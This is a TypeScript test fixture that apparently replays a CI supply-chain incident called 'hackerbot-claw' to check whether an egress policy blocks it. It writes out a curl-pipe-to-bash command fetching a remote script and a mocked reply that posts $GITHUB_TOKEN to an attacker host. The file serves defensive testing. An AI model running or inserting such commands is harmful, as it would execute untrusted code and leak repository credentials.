import type { Incident } from '../../incident.ts';
import { ONLY_INSIDE } from '../../places.ts';

export const hackerbotClaw: Incident = {
  id: 'hackerbot-claw',
  date: '2026-02-27',
  name: 'hackerbot-claw',
  what: 'Pull requests made workflows run `curl -sSfL hackmoltrepeat.com/molt | bash`, which posted tokens to recv.hackmoltrepeat.com.',
  differs: '',
  places: [
    {
      ...{ name: 'hackmoltrepeat.com', port: 80, kind: 'http' },
      replies: {
        'GET /molt': {
          body: `${ONLY_INSIDE}curl -sS -d "token=$GITHUB_TOKEN" https://recv.hackmoltrepeat.com/\n`,
        },
      },
    },
    { name: 'recv.hackmoltrepeat.com' },
  ],
  script: `
    curl -fsS "$NPM_REGISTRY-/ping" >pinged
    curl -sSfL hackmoltrepeat.com/molt | bash`,
  proof: 'pinged',
  control: { arrives: ['GET hackmoltrepeat.com/molt', 'POST recv.hackmoltrepeat.com/'] },
  runs: [
    {
      policy: 'gitlab',
      verdict: 'stopped',
      why: 'The script is never fetched: no rule allows the name.',
      rows: [{ to: 'hackmoltrepeat.com', by: 'sh > curl', reason: 'default' }],
    },
  ],
  sources: [],
};
